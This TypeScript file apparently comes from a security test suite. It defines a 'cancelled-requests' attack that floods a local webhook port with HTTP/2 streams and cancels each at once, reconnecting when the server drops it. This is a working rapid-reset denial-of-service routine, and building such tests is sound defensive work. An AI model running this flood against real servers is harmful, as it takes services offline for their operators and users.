import { connect, constants } from 'node:http2';
import { setImmediate } from 'node:timers/promises';
import { type Attack, inputs } from './attack.ts';

/** The requests of one connection before the server may work on them. */
const BATCH = 100;

/** Somebody who reaches the webhook port, without credentials, cancels requests at once, on two connections after each other. */
export const cancelledRequests: Attack = {
  name: 'cancelled-requests',
  about: 'anybody sends requests to the webhook port over HTTP/2 and cancels them at once',
  play: async ({ webhookPort }) => ({ inputs: await cancelRequests(webhookPort, inputs(10_000)) }),
};

/** Sends so many, over as many connections as it takes, and returns how many. */
export async function cancelRequests(port: number, count: number): Promise<number> {
  let sent = 0;
  while (sent < count) sent += await cancelSome(port, count - sent);
  return sent;
}

/** Returns how many were sent: a server may end the connection of one that cancels so many. */
async function cancelSome(port: number, count: number): Promise<number> {
  const session = connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
  session.on('error', () => undefined);
  await new Promise<void>((resolve) => {
    session.on('connect', () => resolve()).on('close', () => resolve());
  });
  let sent = 0;
  for (; sent < count && !session.destroyed && !session.closed; sent++) {
    const request = session.request({ ':method': 'POST', ':path': '/x', 'content-type': 'application/json' });
    request.on('error', () => undefined);
    request.write('{');
    request.close(constants.NGHTTP2_CANCEL);
    if (sent % BATCH === BATCH - 1) await setImmediate();
  }
  session.destroy();
  return Math.max(sent, 1);
}
